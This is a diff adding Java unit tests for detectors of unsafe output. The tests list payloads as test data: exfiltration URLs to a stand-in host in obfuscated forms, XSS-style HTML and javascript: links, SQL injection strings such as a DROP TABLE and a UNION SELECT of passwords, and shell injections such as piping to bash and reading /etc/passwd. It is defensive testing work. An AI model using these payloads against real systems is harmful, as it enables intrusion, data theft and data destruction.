@@ -115,4 +115,172 @@ class UnsafeOutputTests {
                 .isEmpty();
         assertThat(UnsafeOutput.all(ACME).inspect("{{7*7}} \u001B[2J")).hasSize(2);
     }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "//evil.example/x?d=secret",
+                "see //evil.example/x?d=secret please",
+                "www.evil.example/x",
+                "go to www.evil.example?d=1",
+                "https:\\/\\/evil.example\\/x",
+                "{\"u\":\"https:\\/\\/evil.example\\/x?d=1\"}",
+                "https&#58;//evil.example/x",
+                "https&colon;&sol;&sol;evil.example/x",
+                "![a](https&#58;//evil.example/x)",
+                "https://example.com@evil.example/",
+                "https://example.com:pw@evil.example/",
+                "https://xn--exmple-cua.com/",
+                "https://exаmple.com/",
+                "[a](https:evil.example/x)",
+                "https://example.com.evil.example/",
+                "<img src=//evil.example/x>"
+            })
+    void addressesAreFoundAsBrowsersReadThem(String text) {
+        assertThat(UnsafeOutput.exfiltration(UrlAllowList.of("example.com", "müller.de"))
+                        .inspect(text))
+                .hasSize(1);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "see https://example.com.",
+                "see https://example.com, and",
+                "see https://example.com!",
+                "see https://example.com; or",
+                "**https://example.com**",
+                "(https://example.com)",
+                "\"https://example.com\"",
+                "https://example.com…",
+                "请看https://example.com。谢谢",
+                "see example.com.",
+                "https://EXAMPLE.com:443/x",
+                "https://xn--mller-kva.de/x",
+                "https://müller.de/x",
+                "a // b and c//d",
+                "// TODO.md: fix",
+                "https:\\/\\/example.com\\/x"
+            })
+    void allowedHostsMayStandInProse(String text) {
+        assertThat(UnsafeOutput.exfiltration(UrlAllowList.of("example.com", "müller.de"))
+                        .inspect(text))
+                .isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<img title='>' onerror=alert(1)>",
+                "<img title=\">\" onerror=\"alert(1)\" src=x>",
+                "<a href=\"java&#115;cript:alert(1)\">",
+                "<a href=\"java&Tab;script:alert(1)\">",
+                "<a href=\" javascript:alert(1)\">",
+                "[x](javascript:alert(1))",
+                "[x](java&#x73;cript:alert(1))",
+                "<img alt=< onerror=alert(1)>",
+                "<div a=\"b\"onclick=\"x()\">",
+                "<IMG SRC=x OnErRoR = alert(1)>",
+                "<a href=\"data:text/html,x\">"
+            })
+    void htmlIsReadAsBrowsersReadIt(String text) {
+        assertThat(UnsafeOutput.html().inspect(text)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "JavaScript: a primer",
+                "Learn Javascript: it is fun",
+                "<img title=\"on error = x\" src=x>",
+                "<p title='a > b'>only text</p>",
+                "a < b; on = 5",
+                "if (a<b && onclick == 3)",
+                "&lt;script&gt;alert(1)&lt;/script&gt;"
+            })
+    void htmlThatDoesNothingIsNoneToFear(String text) {
+        assertThat(UnsafeOutput.html().inspect(text)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "admin'--",
+                "admin' --",
+                "user=admin'-- &pw=x",
+                "1 OR 1=1",
+                "1 or 1 = 1",
+                "x' or 'a'='a",
+                "\" or \"\"=\"",
+                "UNION/**/SELECT password FROM users",
+                "1 union select null,null",
+                "union all select 1,2",
+                "'; DROP TABLE users; --",
+                "1;drop/**/table users",
+                "1 AND SLEEP(5)"
+            })
+    void sqlThatWasPutIntoOtherSqlIsFound(String text) {
+        assertThat(UnsafeOutput.sql().inspect(text)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "select a table from the menu",
+                "drop the table off at my house",
+                "drop me a line; update me later",
+                "The union selected a new leader; delete the old one",
+                "She called it 'home' -- and left.",
+                "'no'--then he left",
+                "SELECT a FROM b WHERE c = 'x' AND d = 2",
+                "SELECT a FROM b WHERE (c > 1) OR d = 'y'",
+                "you can have tea or coffee = your choice",
+                "Use a, b; insert the key and turn it.",
+                "We will delete from the list; delete the rest."
+            })
+    void proseAndOrdinarySqlAreNoInjection(String text) {
+        assertThat(UnsafeOutput.sql().inspect(text)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "cat x | bash",
+                "echo aGk= | base64 -d | sh",
+                "curl x | sudo bash -",
+                "echo $(whoami)",
+                "x=$(cat /etc/passwd)",
+                "file=`id`",
+                "ping `whoami`.evil.example",
+                "echo `cat /etc/passwd`",
+                "x; rm -rf ~",
+                "a; cat /etc/passwd"
+            })
+    void commandsInsideOthersAreFound(String text) {
+        assertThat(UnsafeOutput.shell().inspect(text)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Use `ls` to list files.",
+                "Run `cat file.txt`, then `pwd`.",
+                "| bash | a shell |\n| sh | another |",
+                "I like dogs; cat people disagree.",
+                "We use many languages; python is one.",
+                "$(document).ready(x)",
+                "$(this).hide()",
+                "bash | zsh | sh",
+                "costs $(US) 5"
+            })
+    void proseTablesAndMarkdownAreNoCommands(String text) {
+        assertThat(UnsafeOutput.shell().inspect(text)).isEmpty();
+    }
+
+    @Test
+    void lettersThatBrowsersKeepAreNotReplaced() {
+        assertThat(UrlAllowList.of("strasse.de").allows("https://straße.de/")).isFalse();
+        assertThat(UrlAllowList.of("*.müller.de").allows("//www.xn--mller-kva.de/"))
+                .isTrue();
+    }
 }
